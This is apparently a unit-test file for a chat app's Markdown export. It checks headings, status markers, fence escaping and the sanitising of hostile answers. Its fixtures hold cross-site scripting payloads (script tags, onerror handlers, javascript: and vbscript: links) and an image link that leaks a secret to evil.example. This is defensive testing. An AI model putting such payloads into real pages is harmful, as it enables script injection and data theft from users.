"""Unit tests of the Markdown export."""

from datetime import datetime

from chatcore.export import conversation_to_markdown, export_filename
from testkit.strings import EN, ZH

NOW = datetime(2026, 3, 5, 11, 44, 53)


def test_export_lists_each_question_and_answer():
    history = [
        {"role": "user", "content": "什么是 Dash？"},
        {"role": "assistant", "content": "Dash 是一个 **Python** 框架。", "status": "done"},
        {"role": "user", "content": "Write code"},
        {"role": "assistant", "content": "```python\nprint(1)\n```", "status": "done"},
    ]
    assert conversation_to_markdown(history, NOW, model="gpt-4o-mini") == (
        f"# {ZH['exportHeading']}\n\n- {ZH['exportedAt']}: 2026-03-05 11:44:53\n- {ZH['model']}: gpt-4o-mini\n\n"
        f"## {ZH['question']} 1\n\n```text\n什么是 Dash？\n```\n\n"
        f"### {ZH['answer']} 1\n\nDash 是一个 **Python** 框架。\n\n"
        f"## {ZH['question']} 2\n\n```text\nWrite code\n```\n\n### {ZH['answer']} 2\n\n```python\nprint(1)\n```\n"
    )


def test_interrupted_and_stopped_answers_are_marked_in_english_too():
    history = [
        {"role": "user", "content": "q1"}, {"role": "assistant", "content": "part", "status": "error"},
        {"role": "user", "content": "q2"}, {"role": "assistant", "content": "half", "status": "done", "stopped": True},
    ]
    text = conversation_to_markdown(history, NOW, lang="en-US")
    assert f"### {EN['answer']} 1 {EN['answerInterrupted']}\n\npart" in text
    assert f"### {EN['answer']} 2 {EN['stopped']}\n\nhalf" in text


def test_a_question_with_backticks_cannot_break_out_of_its_fence():
    text = conversation_to_markdown([{"role": "user", "content": "```\n# not a heading\n```"}], NOW)
    assert "````text\n```\n# not a heading\n```\n````" in text


def test_filename_is_safe_and_dated():
    assert export_filename(NOW) == "chat-20260305-114453.md"


HOSTILE = """Hi <script>alert(1)</script> [x](javascript:alert(1)) [y]( JaVaScRiPt:alert(2))
<img src=x onerror=alert(1)> <iframe srcdoc="<script>alert(1)</script>"></iframe>
[d](data:text/html,hi) [v](vbscript:msgbox) ![track](https://evil.example/leak?q=secret)
[ref]: javascript:alert(3)
[ok](https://ok.example) [rel](./docs)

```html
<script>shown as code</script>
```
"""


def test_hostile_answers_export_as_inert_text():
    text = conversation_to_markdown([{"role": "user", "content": "q"},
                                     {"role": "assistant", "content": HOSTILE, "status": "done"}], NOW)
    outside_code = text.split("```html")[0]
    assert "<script" not in outside_code and "<img" not in outside_code and "<iframe" not in outside_code
    for scheme in ("javascript:", "JaVaScRiPt:", "vbscript:", "data:"):
        assert f"]({scheme}" not in text and f"]( {scheme}" not in text
    assert "[ref]: #blocked-link" in text
    assert "![track]" not in text and "[🖼 track](https://evil.example/leak?q=secret)" in text
    assert "[ok](https://ok.example) [rel](./docs)" in text
    assert "```html\n<script>shown as code</script>\n```" in text  # code is kept exactly


def test_the_title_heads_the_file_on_one_line_and_inert():
    history = [{"role": "user", "content": "q"}, {"role": "assistant", "content": "a", "status": "done"}]
    text = conversation_to_markdown(history, NOW, title="我的\n<b>周报</b>", lang="zh-CN")
    assert text.startswith(f"# 我的 &lt;b>周报&lt;/b>\n\n- {ZH['exportedAt']}: 2026-03-05 11:44:53\n")


def test_reasoning_is_a_collapsed_details_section_above_the_answer():
    history = [{"role": "user", "content": "2+2?"},
               {"role": "assistant", "content": "4", "reasoning": "Add two and two.", "status": "done"}]
    text = conversation_to_markdown(history, NOW, lang="en-US")
    assert (f"### {EN['answer']} 1\n\n<details><summary>{EN['reasoning']}</summary>\n\n"
            "Add two and two.\n\n</details>\n\n4\n") in text


def test_reasoning_stays_inert_and_cannot_close_its_section():
    reasoning = "</details><img src=x onerror=alert(1)> [x](javascript:alert(1))\n```\nunclosed </details>"
    history = [{"role": "user", "content": "q"}, {"role": "assistant", "content": "a", "reasoning": reasoning}]
    text = conversation_to_markdown(history, NOW, lang="en-US")
    section = text.split(f"<details><summary>{EN['reasoning']}</summary>")[1].split("\n</details>\n")[0]
    assert "&lt;/details>&lt;img src=x onerror=alert(1)> [x](#blocked-link)" in section
    assert section.rstrip().endswith("unclosed </details>\n```")  # the open fence is closed inside the section
    assert text.endswith("</details>\n\na\n")
